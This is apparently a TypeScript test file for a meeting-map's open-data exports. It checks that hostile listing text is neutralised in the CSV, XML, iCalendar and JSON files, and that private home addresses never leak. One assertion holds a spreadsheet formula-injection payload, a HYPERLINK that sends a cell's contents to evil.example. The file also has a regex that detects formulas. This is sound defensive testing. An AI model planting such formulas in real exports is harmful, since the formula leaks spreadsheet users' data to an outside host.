/**
 * Every export, from listings whose text is hostile (tests/fixtures/hostile/listing-text.json):
 * spreadsheet formulas, line breaks, and characters XML 1.0 forbids. Each file must still read
 * as what it claims to be, with a real parser, and the CSV must be safe to open in a spreadsheet.
 */
import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { openDataFiles } from '#integrations/open-data/files.ts';
import { CSV_COLUMNS, csvRow, type OpenDataListing } from '#lib/open-data/exports.ts';
import type { ListingData } from '#schemas/listing.ts';
import { fixtureListings, SITE } from '../../helpers/export-fixtures.ts';
import { fixtureSite } from '../../helpers/temp-project.ts';

const hostile = JSON.parse(
  readFileSync(new URL('../../fixtures/hostile/listing-text.json', import.meta.url), 'utf8'),
) as { formulas: string[]; lineBreaks: string[]; xmlForbidden: string };

/** A meeting with the text in every field that holds free text (the schema's checks are not run). */
function hostileListing(slug: string, text: string): OpenDataListing {
  const data = {
    name: text,
    category: 'mutual-aid-meeting',
    support: ['emotional'],
    summary: text,
    attendance: 'hybrid',
    address: { street: text, city: text, region: text, postal_code: text },
    geo: { lat: 42.73, lng: -84.55 },
    location_private: false,
    phone: text,
    sms: text,
    email: text,
    website: text,
    conference_url: text,
    conference_phone: text,
    conference_notes: text,
    schedule: [{ day: 'monday', start: '19:00', end: '20:00', note: text }],
    fellowship: text,
    cost: text,
    languages: ['en'],
    status: 'active',
    status_note: text,
    last_verified: '2026-10-01',
    verified_how: text,
  } as unknown as ListingData;
  return { slug, data, body: text };
}

const texts = [...hostile.formulas, ...hostile.lineBreaks, hostile.xmlForbidden];
// A private home with hostile text: its area's centre is written, still as numbers.
const privateHome = hostileListing('hostile-private', hostile.formulas[0]!);
privateHome.data = { ...privateHome.data, location_private: true, address: { city: 'Lansing' } };
const listings = [...fixtureListings(), ...texts.map((text, i) => hostileListing(`hostile-${i}`, text)), privateHome];
const files = new Map(openDataFiles({ listings, config: fixtureSite, origin: 'https://example.org', base: '/map/' }));
const file = (path: string) => {
  const text = files.get(path);
  if (text === undefined) throw new Error(`no ${path} among ${[...files.keys()].join(', ')}`);
  return text;
};
/** A file written as UTF-8 and read back is the same text: no lone surrogate was in it. */
const survivesUtf8 = (text: string) => Buffer.from(text, 'utf8').toString('utf8') === text;

describe('listings.csv with hostile text', () => {
  const csv = file('exports/listings.csv');
  // Read as a spreadsheet does: a line break of any kind outside quotes ends the row.
  const rows = parseCsv(csv, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
  const published = listings.filter((l) => l.data.status !== 'closed');

  it('keeps one row per listing: no line break splits a row', () => {
    expect(rows).toHaveLength(1 + published.length);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('has no text cell a spreadsheet would run as a formula, in any row or column', () => {
    const formulaLike = /^[=+\-@\t\r]/;
    let checked = 0;
    for (const row of rows.slice(1)) {
      row.forEach((cell, column) => {
        const name = CSV_COLUMNS[column]!;
        if (name === 'lat' || name === 'lng') return;
        checked++;
        expect(cell, `${row[0]} ${name}`).not.toMatch(formulaLike);
      });
    }
    expect(checked).toBe(published.length * (CSV_COLUMNS.length - 2));
  });

  it('loses nothing: a neutralised cell is the text after one apostrophe', () => {
    const bySlug = new Map(published.map((l) => [l.slug, l]));
    for (const row of rows.slice(1)) {
      const raw = csvRow(bySlug.get(row[0]!)!, SITE);
      row.forEach((cell, column) => {
        const name = CSV_COLUMNS[column]!;
        // As the file holds it: written as UTF-8, where a lone surrogate becomes U+FFFD.
        const value = Buffer.from(raw[name], 'utf8').toString('utf8');
        // The site differs from the fixture site only in its URL; the page address is checked elsewhere.
        if (name === 'url' || name === 'timezone') return;
        expect(cell === value || cell === `'${value}`, `${row[0]} ${name}`).toBe(true);
      });
    }
  });

  it('leaves numbers alone: longitudes stay negative numbers, and a private home gives its area centre', () => {
    const lng = CSV_COLUMNS.indexOf('lng');
    const privateRow = rows.find((row) => row[0] === 'hostile-private')!;
    for (const row of rows.slice(1)) {
      if (row[lng] === '') continue;
      expect(Number(row[lng])).toBeLessThan(0);
    }
    expect(Number(privateRow[lng])).not.toBe(-84.55);
  });
});

describe('feed.xml with hostile text', () => {
  const feed = file('feed.xml');
  it('parses as well-formed XML (saxes, a conformant XML 1.0 parser)', () => {
    const parser = new SaxesParser({ xmlns: true });
    const errors: string[] = [];
    const titles: string[] = [];
    let inTitle = false;
    parser.on('error', (error) => errors.push(error.message));
    parser.on('opentag', (tag) => (inTitle = tag.local === 'title'));
    parser.on('closetag', () => (inTitle = false));
    parser.on('text', (text) => inTitle && titles.push(text));
    parser.write(feed).close();
    expect(errors).toEqual([]);
    // The forbidden characters are left out; the rest of the text is kept.
    expect(titles).toContain('C0:\t\n\n lone:  pair:😀 nonchars: end');
    expect(titles).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")');
  });
  it('is the same text after writing as UTF-8', () => {
    expect(survivesUtf8(feed)).toBe(true);
  });
});

describe('calendars with hostile text', () => {
  const calendars = [...files].filter(([path]) => path.endsWith('.ics'));
  it('writes a calendar file for the meetings and each hostile listing', () => {
    expect(calendars.map(([path]) => path)).toContain('listings/hostile-0.ics');
    expect(calendars.map(([path]) => path)).toContain('exports/meetings.ics');
  });
  it.each(calendars)('%s parses (ical.js), holds no control character and survives UTF-8', (_path, ics) => {
    expect(() => ICAL.parse(ics)).not.toThrow();
    // RFC 5545 3.3.11: no control characters but tab in a value; CRLF only as line ends.
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u0008\u000A-\u001F\u007F]/);
    expect(survivesUtf8(ics)).toBe(true);
  });
});

describe('JSON exports with hostile text', () => {
  const jsonFiles = [...files].filter(([path]) => /\.(json|geojson)$/.test(path));
  it.each(jsonFiles)('%s parses and survives UTF-8', (_path, text) => {
    expect(() => JSON.parse(text)).not.toThrow();
    expect(survivesUtf8(text)).toBe(true);
  });
  it('keeps the hostile text as text (JSON escapes it)', () => {
    const records = JSON.parse(file('exports/listings.json')) as { slug: string; name: string }[];
    expect(records.find((r) => r.slug === 'hostile-0')!.name).toBe(hostile.formulas[0]);
  });
});

describe('a private home in every file the build writes', () => {
  // A private meeting whose file (wrongly) kept its street: no file may give it or the true point.
  const home = hostileListing('private-meeting', 'Quiet Group');
  home.data = {
    ...home.data,
    location_private: true,
    address: { street: '99 Secret Lane', city: 'Lansing' },
    geo: { lat: 42.741137, lng: -84.552219 },
  };
  const all = openDataFiles({ listings: [home], config: fixtureSite, origin: 'https://example.org', base: '/map/' });
  it.each([...all])('%s gives neither the street nor the point in the file', (_path, text) => {
    expect(text).not.toContain('Secret Lane');
    expect(text).not.toContain('42.741137');
    expect(text).not.toContain('84.552219');
  });
});
